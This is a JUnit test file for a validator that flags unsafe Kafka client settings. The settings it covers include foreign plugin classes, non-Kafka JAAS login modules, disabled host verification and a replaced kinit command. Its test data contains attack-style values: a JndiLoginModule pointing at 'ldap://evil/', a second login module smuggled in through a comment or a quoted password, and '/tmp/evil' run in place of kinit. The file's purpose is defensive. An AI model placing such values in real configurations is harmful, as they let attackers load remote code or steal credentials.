package io.sluice.settings;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UnsafeClientSettingsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "metric.reporters",
                "interceptor.classes",
                "producer.interceptor.classes",
                "sasl.client.callback.handler.class",
                "sasl.login.callback.handler.class",
                "sasl.login.class",
                "ssl.engine.factory.class",
                "security.providers",
                "config.providers.vault.class",
                "partitioner.class",
                "partition.assignment.strategy",
                "key.serializer",
                "value.deserializer",
                "default.key.serde",
                "deserialization.exception.handler",
                "default.timestamp.extractor",
                "rocksdb.config.setter"
            })
    void classOfOthers_isNamed(String name) {
        assertThat(UnsafeClientSettings.in(Map.of(name, "org.apache.kafka.Some, com.example.Reporter")))
                .containsExactly(name + ": found com.example.Reporter, allowed are classes of org.apache.kafka.*");
        assertThat(UnsafeClientSettings.in(Map.of(name, "Reporter"))).hasSize(1);
        assertThat(UnsafeClientSettings.in(Map.of(name, " org.apache.kafka.clients.Some ")))
                .isEmpty();
        assertThat(UnsafeClientSettings.in(Map.of(name, ""))).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil/\"; | com.sun.security.auth.module.JndiLoginModule",
                "/* x */ com.evil.Module required; | com.evil.Module",
                "org.apache.kafka.common.security.plain.PlainLoginModule required password=\"a;b\"; com.evil.Second optional; | com.evil.Second",
                "\"com.evil.Quoted\" required; | (no name)",
                "software.amazon.msk.auth.iam.IAMLoginModule required; | software.amazon.msk.auth.iam.IAMLoginModule"
            })
    void otherLoginModules_areNamed(String value, String module) {
        assertThat(UnsafeClientSettings.in(Map.of("admin.sasl.jaas.config", value)))
                .singleElement()
                .asString()
                .startsWith(
                        "admin.sasl.jaas.config: found the login module " + module + ", allowed are those of PLAIN");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"a\" password=\"x; com.evil.Y z\";",
                "org.apache.kafka.common.security.scram.ScramLoginModule required username=\"a\" password=\"b\" ;",
                "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required;",
                "com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true keyTab=\"/etc/sluice.keytab\";"
            })
    void kafkasOwnLoginModules_areAllowed(String value) {
        assertThat(UnsafeClientSettings.in(Map.of("sasl.jaas.config", value))).isEmpty();
    }

    @Test
    void certificateOfAnyHost_isNamed() {
        assertThat(UnsafeClientSettings.in(Map.of("ssl.endpoint.identification.algorithm", " ")))
                .singleElement()
                .asString()
                .contains("found nothing, which accepts the certificate of any host; allowed is https");
        assertThat(UnsafeClientSettings.in(Map.of("ssl.endpoint.identification.algorithm", "https")))
                .isEmpty();
    }

    @Test
    void programInPlaceOfKinit_isNamed() {
        assertThat(UnsafeClientSettings.in(Map.of("admin.sasl.kerberos.kinit.cmd", "/tmp/evil")))
                .containsExactly("admin.sasl.kerberos.kinit.cmd: found /tmp/evil, which is run as a program; allowed is"
                        + " /usr/bin/kinit");
        assertThat(UnsafeClientSettings.in(Map.of("sasl.kerberos.kinit.cmd", "/usr/bin/kinit")))
                .isEmpty();
    }

    @Test
    void whatOperatorsUsuallySet_isAllowed() {
        assertThat(UnsafeClientSettings.in(Map.of(
                        "security.protocol", "SASL_SSL",
                        "sasl.mechanism", "SCRAM-SHA-512",
                        "ssl.truststore.location", "/etc/truststore.jks",
                        "metadata.recovery.strategy", "rebootstrap",
                        "linger.ms", "20",
                        "client.rack", "a.b.C")))
                .isEmpty();
    }
}
